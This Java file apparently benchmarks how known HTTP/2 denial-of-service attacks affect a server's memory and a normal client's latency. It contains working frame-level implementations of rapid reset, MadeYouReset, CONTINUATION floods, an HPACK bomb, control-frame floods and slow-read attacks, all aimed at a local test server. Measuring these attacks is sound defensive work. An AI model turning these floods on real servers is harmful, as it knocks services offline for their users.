import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Measures what known attacks on HTTP/2 cost: the server's memory, and the waiting time of a well-behaved client.
 * Prints a table. The script "attacks" beside this class runs {@code Attacks serve PORT pool|none} and
 * {@code Attacks PORT SECONDS CONNECTIONS [NAME]}.
 */
public final class Attacks {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** Enough that the first rows do not measure the JIT compiler. The answers fit into the initial window. */
    private static final int WARM_UP_REQUESTS = 10_000;

    private static volatile boolean over;
    private static final AtomicLong connections = new AtomicLong();

    private interface Attack {
        void on(Socket socket, OutputStream out) throws Exception;
    }

    private static final Map<String, Attack> ATTACKS = new LinkedHashMap<>();

    static {
        ATTACKS.put("none", (socket, out) -> pause(1000));
        ATTACKS.put("rapid reset", (socket, out) -> {
            begin(out);
            for (int stream = 1; !over; stream += 2) {
                write(out, frame(HEADERS, END_STREAM | END_HEADERS, stream, request("GET", "/small")), frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
            }
        });
        ATTACKS.put("MadeYouReset", (socket, out) -> {
            begin(out);
            for (int stream = 1; !over; stream += 2) {
                write(out, frame(HEADERS, END_STREAM | END_HEADERS, stream, request("GET", "/small")), frame(WINDOW_UPDATE, 0, stream, new byte[4]));
            }
        });
        ATTACKS.put("CONTINUATION flood", (socket, out) -> {
            begin(out);
            write(out, frame(HEADERS, END_STREAM, 1, request("GET", "/small")));
            byte[] piece = frame(CONTINUATION, 0, 1, literals(60));
            while (!over) {
                out.write(piece);
            }
        });
        ATTACKS.put("CONTINUATION flood, empty", (socket, out) -> {
            begin(out);
            write(out, frame(HEADERS, END_STREAM, 1, request("GET", "/small")));
            byte[] piece = frame(CONTINUATION, 0, 1, new byte[0]);
            while (!over) {
                out.write(piece);
            }
        });
        ATTACKS.put("HPACK bomb", (socket, out) -> {
            begin(out);
            ByteArrayOutputStream first = new ByteArrayOutputStream();
            first.writeBytes(request("GET", "/small"));
            first.write(0x40);
            string(first, "x");
            string(first, "y".repeat(4000));
            write(out, frame(HEADERS, END_STREAM | END_HEADERS, 1, first.toByteArray()));
            byte[] bomb = new byte[16_000];
            Arrays.fill(bomb, (byte) 0xbe); // refers to the new table entry again and again
            for (int stream = 3; !over; stream += 2) {
                write(out, frame(HEADERS, END_STREAM, stream, request("GET", "/small")), frame(CONTINUATION, END_HEADERS, stream, bomb));
            }
        });
        ATTACKS.put("SETTINGS flood", (socket, out) -> flood(out, frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 100, 0})));
        ATTACKS.put("PING flood", (socket, out) -> flood(out, frame(PING, 0, 0, new byte[8])));
        ATTACKS.put("PRIORITY flood", (socket, out) -> flood(out, frame(PRIORITY, 0, 3, new byte[] {0, 0, 0, 1, 1})));
        ATTACKS.put("empty DATA flood", (socket, out) -> {
            begin(out);
            write(out, frame(HEADERS, END_HEADERS, 1, request("POST", "/upload")));
            while (!over) {
                out.write(frame(DATA, 0, 1, new byte[0]));
            }
        });
        ATTACKS.put("data dribble", (socket, out) -> {
            begin(out, 0, 4, 0, 0, 0, 0);
            ask(out, 100);
            while (!over) {
                for (int stream = 1; stream < 200; stream += 2) {
                    out.write(frame(WINDOW_UPDATE, 0, stream, new byte[] {0, 0, 0, 1}));
                }
                pause(10);
            }
        });
        ATTACKS.put("zero windows, large responses", (socket, out) -> {
            begin(out, 0, 4, 0, 0, 0, 0);
            ask(out, 100);
            pause(60_000);
        });
        ATTACKS.put("uploads that nobody reads", (socket, out) -> {
            begin(out);
            for (int stream = 1; stream < 40; stream += 2) {
                write(out, frame(HEADERS, END_HEADERS, stream, request("POST", "/sleep")));
                for (int i = 0; i < 3; i++) {
                    out.write(frame(DATA, 0, stream, new byte[16_000]));
                }
            }
            pause(60_000);
        });
        ATTACKS.put("slow preface", (socket, out) -> {
            for (byte octet : PREFACE) {
                out.write(octet);
                pause(1000);
            }
        });
        ATTACKS.put("slow block", (socket, out) -> {
            begin(out);
            out.write(frame(HEADERS, END_STREAM, 1, request("GET", "/small")));
            for (int i = 0; i < 12; i++) {
                out.write(frame(CONTINUATION, 0, 1, literals(60)));
            }
            pause(60_000);
        });
    }

    private static void flood(OutputStream out, byte[] frame) throws IOException {
        begin(out);
        ByteArrayOutputStream many = new ByteArrayOutputStream();
        for (int i = 0; i < 100; i++) {
            many.writeBytes(frame);
        }
        while (!over) {
            out.write(many.toByteArray());
        }
    }

    private static void ask(OutputStream out, int count) throws IOException {
        for (int i = 0; i < count; i++) {
            out.write(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, request("GET", "/large")));
        }
    }

    // ---- frames

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static void begin(OutputStream out, int... settings) throws IOException {
        byte[] payload = new byte[settings.length];
        for (int i = 0; i < settings.length; i++) {
            payload[i] = (byte) settings[i];
        }
        write(out, PREFACE, frame(SETTINGS, 0, 0, payload));
    }

    private static void write(OutputStream out, byte[]... parts) throws IOException {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        out.write(all.toByteArray());
    }

    private static byte[] request(String method, String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (String text : new String[] {":method", method, ":scheme", "http", ":path", path, ":authority", "test"}) {
            if (text.startsWith(":")) {
                block.write(0);
            }
            string(block, text);
        }
        return block.toByteArray();
    }

    private static byte[] literals(int count) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            block.write(0);
            string(block, "x" + i);
            string(block, "y".repeat(250));
        }
        return block.toByteArray();
    }

    private static void string(ByteArrayOutputStream to, String text) {
        int length = text.length();
        if (length < 127) {
            to.write(length);
        } else {
            to.write(127);
            int rest = length - 127;
            for (; rest > 127; rest >>= 7) {
                to.write(rest & 127 | 128);
            }
            to.write(rest);
        }
        to.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }

    // ---- running

    private static void pause(long millis) throws InterruptedException {
        long end = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(millis);
        while (!over && System.nanoTime() < end) {
            Thread.sleep(Math.min(10, millis));
        }
    }

    private static void attack(Attack attack, int port) {
        while (!over) {
            try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                connections.incrementAndGet();
                attack.on(socket, socket.getOutputStream());
            } catch (Exception ended) { // the server has ended it; try again
                Thread.onSpinWait();
            }
        }
    }

    /** Requests a small page on one connection every 20 ms, and asks the server how much memory it uses. */
    private static final class WellBehaved {
        private final Socket socket;
        private final DataInputStream in;
        private int stream = 1;

        WellBehaved(int port) throws IOException {
            socket = new Socket(InetAddress.getLoopbackAddress(), port);
            socket.setTcpNoDelay(true);
            socket.setSoTimeout(20_000);
            in = new DataInputStream(socket.getInputStream());
            begin(socket.getOutputStream());
        }

        String ask(String path) throws IOException {
            int mine = stream;
            stream += 2;
            socket.getOutputStream().write(frame(HEADERS, END_STREAM | END_HEADERS, mine, request("GET", path)));
            StringBuilder text = new StringBuilder();
            while (true) {
                int head = in.readInt();
                int flags = in.readUnsignedByte();
                int of = in.readInt();
                byte[] payload = in.readNBytes(head >>> 8);
                int type = head & 0xff;
                if (type == DATA && of == mine) {
                    text.append(new String(payload, StandardCharsets.US_ASCII));
                }
                if (of == mine && type <= HEADERS && (flags & END_STREAM) != 0) {
                    return text.toString();
                }
                if (type == RST_STREAM && of == mine || type == 7) {
                    throw new IOException("refused");
                }
            }
        }
    }

    public static void main(String[] arguments) throws Exception {
        if (arguments[0].equals("serve")) {
            serve(Integer.parseInt(arguments[1]), arguments[2].equals("pool"));
            return;
        }
        int port = Integer.parseInt(arguments[0]);
        int seconds = Integer.parseInt(arguments[1]);
        int clients = Integer.parseInt(arguments[2]);
        System.out.println("| attack | connections | waiting: median | 99 % | longest, ms | not served | heap in use, MB |");
        System.out.println("|---|---|---|---|---|---|---|");
        ATTACKS.keySet().removeIf(name -> arguments.length > 3 && !name.equals(arguments[3]));
        WellBehaved warmUp = new WellBehaved(port);
        for (int i = 0; i < WARM_UP_REQUESTS; i++) {
            warmUp.ask("/small");
        }
        for (Map.Entry<String, Attack> attack : ATTACKS.entrySet()) {
            System.out.println(row(attack.getKey(), attack.getValue(), port, seconds, clients));
        }
    }

    private static String row(String name, Attack attack, int port, int seconds, int clients) throws Exception {
        over = false;
        connections.set(0);
        WellBehaved client = new WellBehaved(port);
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < clients; i++) {
            Thread thread = new Thread(() -> attack(attack, port));
            thread.start();
            threads.add(thread);
        }
        List<Double> waits = new ArrayList<>();
        int failures = 0;
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        while (System.nanoTime() < end) {
            long begin = System.nanoTime();
            try {
                client.ask("/small");
            } catch (IOException e) {
                failures++;
                client = new WellBehaved(port);
            }
            waits.add((System.nanoTime() - begin) / 1e6);
            Thread.sleep(20);
        }
        String heap;
        try {
            heap = new WellBehaved(port).ask("/heap");
        } catch (IOException e) {
            heap = "?";
        }
        over = true;
        for (Thread thread : threads) {
            thread.join(10_000);
        }
        waits.sort(null);
        return String.format(
                "| %s | %d | %.1f | %.1f | %.1f | %d of %d | %s |",
                name,
                connections.get(),
                waits.get(waits.size() / 2),
                waits.get(waits.size() * 99 / 100),
                waits.get(waits.size() - 1),
                failures,
                waits.size(),
                heap);
    }

    private static void serve(int port, boolean pool) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 1024);
        byte[] small = "hello".getBytes(StandardCharsets.US_ASCII);
        server.createContext("/small", exchange -> {
            exchange.sendResponseHeaders(200, small.length);
            exchange.getResponseBody().write(small);
            exchange.close();
        });
        server.createContext("/large", exchange -> {
            exchange.sendResponseHeaders(200, 30_000);
            exchange.getResponseBody().write(new byte[30_000]);
            exchange.close();
        });
        server.createContext("/upload", exchange -> {
            InputStream body = exchange.getRequestBody();
            body.readAllBytes();
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        CountDownLatch never = new CountDownLatch(1);
        server.createContext("/sleep", exchange -> {
            try {
                never.await(pool ? 1000 : 0, TimeUnit.MILLISECONDS);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        server.createContext("/heap", exchange -> {
            System.gc();
            Runtime runtime = Runtime.getRuntime();
            byte[] used = String.valueOf((runtime.totalMemory() - runtime.freeMemory()) >> 20)
                    .getBytes(StandardCharsets.US_ASCII);
            exchange.sendResponseHeaders(200, used.length);
            exchange.getResponseBody().write(used);
            exchange.close();
        });
        if (pool) {
            server.setExecutor(Executors.newCachedThreadPool());
        }
        server.start();
    }
}
